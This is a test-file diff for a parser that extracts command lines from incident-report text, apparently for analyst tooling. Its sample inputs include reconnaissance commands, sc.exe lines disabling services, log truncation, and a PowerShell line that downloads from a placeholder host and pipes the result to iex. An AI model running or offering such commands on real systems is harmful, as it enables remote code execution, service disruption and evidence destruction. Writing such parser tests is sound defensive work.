@@ -259,4 +259,74 @@ describe('extractCmdlines', () => {
     const text = 'The beacon ran:\n/c hostname /c arp -a /c ping -n 2 db01.corp.test (...) /c cmd /c ver /c netstat -ano';
     expect(values(text)).toEqual(['hostname', 'arp -a', 'ping -n 2 db01.corp.test', 'cmd /c ver', 'netstat -ano']);
   });
+
+  it('splits a line of commands a page ran together where the same program starts again or a bare tool is followed by a path', () => {
+    const text = [
+      'On the file server:',
+      '',
+      'hostname D:\\Tools\\viewer.exe D:\\logs\\app.log net view net share',
+      '',
+      'Then:',
+      '',
+      'ping -n 2 fs01.corp.test ping -n 2 fs02.corp.test',
+      '',
+      'And:',
+      '',
+      'net config net session D:\\Tools\\mon.exe /2',
+    ].join('\n');
+    expect(values(text)).toEqual([
+      'hostname',
+      'D:\\Tools\\viewer.exe D:\\logs\\app.log',
+      'net view',
+      'net share',
+      'ping -n 2 fs01.corp.test',
+      'ping -n 2 fs02.corp.test',
+      'net config',
+      'net session',
+      'D:\\Tools\\mon.exe /2',
+    ]);
+  });
+
+  it('splits a command a page glued onto the end of the one before it, with no space between', () => {
+    const text = 'sc.exe config AppSvc start= disabledsc.exe config LogSvc start= disabled';
+    expect(values(text)).toEqual(['sc.exe config AppSvc start= disabled', 'sc.exe config LogSvc start= disabled']);
+  });
+
+  it('does not read a product name followed by a title as a command', () => {
+    expect(values('e3b0c442-98fc-1c14 : PowerShell Encoded ToBase64String Usage')).toEqual([]);
+    expect(values('Rule 4412 matched Unusual PowerShell ScriptBlock activity.')).toEqual([]);
+    expect(values('The AWS [guide](https://docs.example.test/iam) lists good practices for IAM.')).toEqual([]);
+    expect(values('Analysts ran PowerShell -NoProfile -File C:\\t\\a.ps1 on the host.')).toEqual([
+      'PowerShell -NoProfile -File C:\\t\\a.ps1',
+    ]);
+  });
+
+  it('skips the control statements of program code and English "if" or "for" after a tool name', () => {
+    const text = ['```c', 'if (system("uname -a") != 0) {', '  return 2;', '}', '```'].join('\n');
+    expect(values(text)).toEqual([]);
+    expect(values('It checks if `/proc/x/flag` exists first.')).toEqual([]);
+    expect(values('They used net user and net group for domain enumeration.')).toEqual([]);
+  });
+
+  it('strips a host:path$ prompt and joins an indented line that carries on an open parenthesis or a trailing switch', () => {
+    const text = [
+      '```bash',
+      'web-01:~$ rmdir cache.d',
+      'truncate -s 0 /var/log/app.log',
+      '```',
+      '',
+      '```powershell',
+      "(Invoke-webrequest -Uri 'https://a.example.test/p'",
+      '    -UseBasicParsing).content | iex',
+      'Invoke-WebRequest -Uri "https://a.example.test/z" -OutFile',
+      '    "$env:TEMP\\z.zip"',
+      '```',
+    ].join('\n');
+    expect(values(text)).toEqual([
+      'rmdir cache.d',
+      'truncate -s 0 /var/log/app.log',
+      "(Invoke-webrequest -Uri 'https://a.example.test/p' -UseBasicParsing).content | iex",
+      'Invoke-WebRequest -Uri "https://a.example.test/z" -OutFile "$env:TEMP\\z.zip"',
+    ]);
+  });
 });
